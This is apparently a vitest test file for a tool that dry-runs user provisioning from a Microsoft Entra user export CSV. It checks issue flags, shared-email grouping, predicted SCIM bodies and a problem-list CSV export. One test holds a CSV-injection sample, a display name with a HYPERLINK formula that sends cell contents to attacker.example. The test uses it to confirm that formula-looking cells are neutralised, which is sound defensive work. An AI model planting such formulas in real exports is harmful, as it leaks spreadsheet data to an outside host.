import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  DRY_RUN_PROBLEM_COLUMNS,
  dryRun,
  dryRunProblemsCsv,
  neutralizeFormula,
  readUsersFile,
  predictedBody,
  readUsersText,
  toCsv,
  type DryRunReport,
} from '~/lib/exports';
import { defaultSampleBody } from '~/lib/schema/check';
import { guideUserMappings } from '~/lib/schema/entra-defaults';
import { GUIDE_POLICY } from '../../support/guide-policy';
import { DOMAIN, TENANT_DOMAIN, fixtureBytes } from './fixtures';

function reportFor(text: string): DryRunReport {
  const outcome = readUsersText(text);
  if (!outcome.ok) throw new Error(outcome.error.message);
  return dryRun(outcome.file);
}

function fixtureReport(file: string): DryRunReport {
  const outcome = readUsersFile(fixtureBytes(file));
  if (!outcome.ok) throw new Error(outcome.error.message);
  return dryRun(outcome.file);
}

const codesOf = (report: DryRunReport, userPrincipalName: string) =>
  report.users
    .find((entry) => entry.user.userPrincipalName === userPrincipalName)
    ?.issues.map((issue) => issue.code);

const HEADER = 'userPrincipalName,displayName,mail,givenName,surname,accountEnabled,userType';

describe('flags, one user at a time', () => {
  it.each([
    ['a clean member', `a@${DOMAIN},A B,a@${DOMAIN},A,B,True,Member`, [], 'clean'],
    ['no mail', `a@${DOMAIN},A B,,A,B,True,Member`, ['dry-run-no-mail'], 'fix'],
    ['mail of spaces only', `a@${DOMAIN},A B,  ,A,B,True,Member`, ['dry-run-no-mail'], 'fix'],
    [
      'a guest with an #EXT# user name',
      `a_home.example#EXT#@${TENANT_DOMAIN},A B,a@home.example,A,B,True,Guest`,
      ['dry-run-guest-user-name', 'dry-run-guest', 'dry-run-email-differs'],
      'fix',
    ],
    [
      "the tenant creator's personal account (#EXT#, Member)",
      `owner_mail.example#EXT#@${TENANT_DOMAIN},Owner,,O,W,True,Member`,
      ['dry-run-no-mail', 'dry-run-guest-user-name'],
      'fix',
    ],
    [
      'an onmicrosoft.com user name',
      `admin@${TENANT_DOMAIN},Admin,admin@${TENANT_DOMAIN},Ad,Min,True,Member`,
      ['dry-run-onmicrosoft-user-name'],
      'check',
    ],
    [
      'a guest (userType)',
      `a@${DOMAIN},A B,a@${DOMAIN},A,B,True,guest`,
      ['dry-run-guest'],
      'check',
    ],
    ['disabled', `a@${DOMAIN},A B,a@${DOMAIN},A,B,False,Member`, ['dry-run-disabled'], 'skipped'],
    [
      'disabled and no mail',
      `a@${DOMAIN},A B,,A,B,False,Member`,
      ['dry-run-no-mail', 'dry-run-disabled'],
      'skipped',
    ],
    ['no surname', `a@${DOMAIN},A,a@${DOMAIN},A,,True,Member`, ['dry-run-missing-name'], 'check'],
    [
      'a different email (a note only)',
      `a@${DOMAIN},A B,ab@${DOMAIN},A,B,True,Member`,
      ['dry-run-email-differs'],
      'clean',
    ],
    [
      'the same email in other capitals',
      `a@${DOMAIN},A B,A@${DOMAIN.toUpperCase()},A,B,True,Member`,
      [],
      'clean',
    ],
  ])('%s', (_label, row, codes, outcome) => {
    const report = reportFor(`${HEADER}\n${row}\n`);
    expect(report.users[0]?.issues.map((issue) => issue.code)).toEqual(codes);
    expect(report.users[0]?.outcome).toBe(outcome);
  });

  it('says which name is missing', () => {
    const report = reportFor(`${HEADER}\na@${DOMAIN},A,a@${DOMAIN},,,True,Member\n`);
    expect(report.users[0]?.issues[0]?.detail).toBe('No first or last name.');
  });
});

describe('shared email addresses', () => {
  const text = [
    HEADER,
    `c@${DOMAIN},C,Team@${DOMAIN},C,C,True,Member`,
    `a@${DOMAIN},A,team@${DOMAIN},A,A,True,Member`,
    `b@${DOMAIN},B,TEAM@${DOMAIN},B,B,True,Member`,
    `d@${DOMAIN},D,d@${DOMAIN},D,D,True,Member`,
    `e@${DOMAIN},E,other@${DOMAIN},E,E,True,Member`,
    `f@${DOMAIN},F,Other@${DOMAIN},F,F,True,Member`,
  ].join('\n');

  it('groups users by address, ignoring capitals: one group per shared address', () => {
    const report = reportFor(text);
    expect(report.sharedEmails).toEqual([
      { email: `other@${DOMAIN}`, userPrincipalNames: [`e@${DOMAIN}`, `f@${DOMAIN}`] },
      {
        email: `team@${DOMAIN}`,
        userPrincipalNames: [`a@${DOMAIN}`, `b@${DOMAIN}`, `c@${DOMAIN}`],
      },
    ]);
    expect(codesOf(report, `d@${DOMAIN}`)).toEqual([]);
    const a = report.users.find((entry) => entry.user.userPrincipalName === `a@${DOMAIN}`);
    expect(a?.issues.find((issue) => issue.code === 'dry-run-shared-email')?.detail).toBe(
      `team@${DOMAIN} is also the email of b@${DOMAIN}, c@${DOMAIN}.`,
    );
  });
});

describe('the fixture download', () => {
  const report = fixtureReport('exportUsers_2026-11-30.csv');

  it('summarises first: who would be created cleanly, who needs a fix, by reason', () => {
    expect(report.counts).toEqual({ clean: 4, check: 1, fix: 6, skipped: 1 });
    expect(report.reasons).toEqual([
      { code: 'dry-run-no-mail', severity: 'error', users: 3 },
      { code: 'dry-run-guest-user-name', severity: 'error', users: 2 },
      { code: 'dry-run-shared-email', severity: 'error', users: 2 },
      { code: 'dry-run-onmicrosoft-user-name', severity: 'warning', users: 1 },
      { code: 'dry-run-guest', severity: 'warning', users: 1 },
      { code: 'dry-run-disabled', severity: 'warning', users: 1 },
      { code: 'dry-run-missing-name', severity: 'warning', users: 2 },
      { code: 'dry-run-email-differs', severity: 'info', users: 4 },
    ]);
    expect(report.fileFindings.map((finding) => finding.code)).toEqual([
      'dry-run-external-id-unknown',
    ]);
  });

  it('predicts the body with the attribute mapping checker’s own mapping', () => {
    const zoe = report.users.find((entry) => entry.user.givenName === 'Zoë');
    expect(zoe && predictedBody(zoe.user, GUIDE_POLICY)).toEqual({
      schemas: ['urn:ietf:params:scim:schemas:core:2.0:User'],
      userName: `zoe.angstrom@${DOMAIN}`,
      emails: [{ type: 'work', value: `zoe.angstrom@${DOMAIN}`, primary: true }],
      name: { givenName: 'Zoë', familyName: 'Ångström' },
      externalId: '<value of [mailNickname]>',
    });
    // The same attributes, in the same order, as the checker's sample body: one mapping definition.
    expect(Object.keys(zoe ? predictedBody(zoe.user, GUIDE_POLICY) : {})).toEqual(
      Object.keys(defaultSampleBody(GUIDE_POLICY)),
    );
    expect(guideUserMappings(GUIDE_POLICY).map((mapping) => mapping.targetAttributeName)).toEqual(
      GUIDE_POLICY.supportedAttributes,
    );
  });

  it('sends no empty attribute: a user without mail gets no emails', () => {
    const marek = report.users.find((entry) => entry.user.userPrincipalName.startsWith('marek'));
    expect(marek && predictedBody(marek.user)).not.toHaveProperty('emails');
    const ines = report.users.find((entry) => entry.user.givenName === 'Inès');
    expect(ines && predictedBody(ines.user)['name']).toEqual({ givenName: 'Inès' });
  });
});

describe('a file without the columns the prediction needs (Preview, default view)', () => {
  const report = fixtureReport('exportUsers_preview-default-view.csv');

  it('says once which columns are missing, instead of flagging every user', () => {
    const missing = report.fileFindings.find(
      (finding) => finding.code === 'dry-run-missing-columns',
    );
    expect(missing?.message).toContain('`mail`, `givenName`, `surname`, `accountEnabled`');
    expect(missing?.message).toContain('who has no email address');
    expect(report.reasons.map((reason) => reason.code)).toEqual([
      'dry-run-guest-user-name',
      'dry-run-guest',
    ]);
  });

  it('shows the unknown values as placeholders in the body, never as empty', () => {
    expect(report.users[0] && predictedBody(report.users[0].user)).toMatchObject({
      emails: [{ type: 'work', value: '<value of [mail]>', primary: true }],
      name: { givenName: '<value of [givenName]>', familyName: '<value of [surname]>' },
    });
  });
});

describe('problem list CSV', () => {
  const report = fixtureReport('exportUsers_2026-11-30.csv');
  const csv = dryRunProblemsCsv(report, 'https://guide.example');
  const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;

  it('has one row per problem, with the troubleshooting link, and a BOM for Excel', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(rows[0]).toEqual([...DRY_RUN_PROBLEM_COLUMNS]);
    const problems = report.users.reduce((total, entry) => total + entry.issues.length, 0);
    expect(rows).toHaveLength(problems + 1);
    expect(rows).toContainEqual(
      expect.arrayContaining([
        `former.tenant@${DOMAIN}`,
        'dry-run-disabled',
        'https://guide.example/troubleshooting/#dry-run-disabled',
      ]),
    );
  });

  it('keeps names in any script and neutralises a formula-looking cell', () => {
    const names = rows.map((row) => row[1]);
    expect(names).toContain('Tomás Vidal');
    expect(names).toContain('\'=HYPERLINK("https://attacker.example/?d="&A1,"Marek Nowak")');
    expect(names.filter((name) => name?.startsWith('='))).toEqual([]);
  });
});

describe('formula neutralising', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+33 1 23', "'+33 1 23"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['＝1', "'＝1"],
    ['Zoë Ångström', 'Zoë Ångström'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %j', (cell, safe) => {
    expect(neutralizeFormula(cell)).toBe(safe);
  });

  it('quotes every cell and doubles quotes', () => {
    expect(toCsv([['a', 'b "c", d']])).toBe('\uFEFF"a","b ""c"", d"\r\n');
  });
});
